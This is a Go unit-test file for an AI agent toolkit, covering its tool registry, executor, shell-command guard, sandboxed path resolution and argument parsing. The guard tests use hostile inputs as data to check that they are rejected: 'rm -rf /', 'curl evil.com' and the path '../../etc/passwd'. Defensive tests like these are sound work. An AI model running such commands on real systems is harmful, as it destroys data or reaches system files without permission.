package tools

import (
	"context"
	"testing"

	"github.com/cklxx-labs/agentcore/internal/config"
)

func TestRegistry_RegisterAndGet(t *testing.T) {
	r := NewRegistry()
	calc := NewCalcTool()
	r.Register(calc)

	got, ok := r.Get("calc")
	if !ok {
		t.Fatalf("expected calc to be registered")
	}
	if got.Schema.Name != "calc" {
		t.Errorf("unexpected schema name: %q", got.Schema.Name)
	}
}

func TestRegistry_GetMissingReturnsFalse(t *testing.T) {
	r := NewRegistry()
	if _, ok := r.Get("missing"); ok {
		t.Errorf("expected missing tool lookup to fail")
	}
}

func TestExecutor_RejectsInvalidArguments(t *testing.T) {
	r := NewRegistry()
	r.Register(NewCalcTool())
	e := NewExecutor(r)

	_, reason, err := e.Execute(context.Background(), "calc", map[string]interface{}{"op": "add"})
	if err == nil {
		t.Fatalf("expected validation error for missing required fields")
	}
	if reason != "tool_arg_invalid" {
		t.Errorf("expected tool_arg_invalid reason, got %q", reason)
	}
}

func TestExecutor_RunsSyncHandlerOnValidArguments(t *testing.T) {
	r := NewRegistry()
	r.Register(NewCalcTool())
	e := NewExecutor(r)

	result, reason, err := e.Execute(context.Background(), "calc", map[string]interface{}{
		"op": "add", "a": 2.0, "b": 3.0,
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if reason != "" {
		t.Errorf("expected no reason code on success, got %q", reason)
	}
	if result != 5.0 {
		t.Errorf("expected 5.0, got %v", result)
	}
}

func TestExecutor_UnknownToolIsExecError(t *testing.T) {
	r := NewRegistry()
	e := NewExecutor(r)
	_, reason, err := e.Execute(context.Background(), "nope", map[string]interface{}{})
	if err == nil || reason != "tool_exec_error" {
		t.Errorf("expected tool_exec_error, got reason=%q err=%v", reason, err)
	}
}

func TestCheckShellCommand_DenylistWins(t *testing.T) {
	guard := config.RunCommandGuard{Allowlist: []string{"echo"}, Denylist: []string{"rm"}}
	_, err := CheckShellCommand(guard, "rm -rf /", 0)
	if err == nil {
		t.Fatalf("expected denylist rejection")
	}
}

func TestCheckShellCommand_AllowlistRejectsUnknown(t *testing.T) {
	guard := config.RunCommandGuard{Allowlist: []string{"echo"}}
	_, err := CheckShellCommand(guard, "curl evil.com", 0)
	if err == nil {
		t.Fatalf("expected allowlist rejection")
	}
}

func TestCheckShellCommand_ClampsTimeoutToMax(t *testing.T) {
	guard := config.RunCommandGuard{MaxTimeoutSeconds: 5}
	timeout, err := CheckShellCommand(guard, "echo hi", 60)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if timeout.Seconds() != 5 {
		t.Errorf("expected clamped timeout of 5s, got %v", timeout)
	}
}

func TestResolveConfinedPath_RejectsEscape(t *testing.T) {
	if _, err := ResolveConfinedPath("/tmp/sandbox", "../../etc/passwd"); err == nil {
		t.Fatalf("expected escape to be rejected")
	}
}

func TestResolveConfinedPath_AllowsWithinBase(t *testing.T) {
	resolved, err := ResolveConfinedPath("/tmp/sandbox", "notes.txt")
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if resolved == "" {
		t.Errorf("expected a resolved path")
	}
}

func TestParseToolCallArguments_DirectJSON(t *testing.T) {
	args, err := ParseToolCallArguments(`{"a": 1, "b": "two"}`)
	if err != nil {
		t.Fatalf("ParseToolCallArguments: %v", err)
	}
	if args["a"] != 1.0 || args["b"] != "two" {
		t.Errorf("unexpected args: %#v", args)
	}
}

func TestParseToolCallArguments_RepairsMalformedJSON(t *testing.T) {
	args, err := ParseToolCallArguments(`{"a": 1, "b": "two"`)
	if err != nil {
		t.Fatalf("ParseToolCallArguments should repair trailing-brace JSON: %v", err)
	}
	if args["a"] != 1.0 {
		t.Errorf("unexpected args: %#v", args)
	}
}

func TestParseToolCallArguments_EmptyStringReturnsEmptyMap(t *testing.T) {
	args, err := ParseToolCallArguments("")
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(args) != 0 {
		t.Errorf("expected empty map, got %#v", args)
	}
}
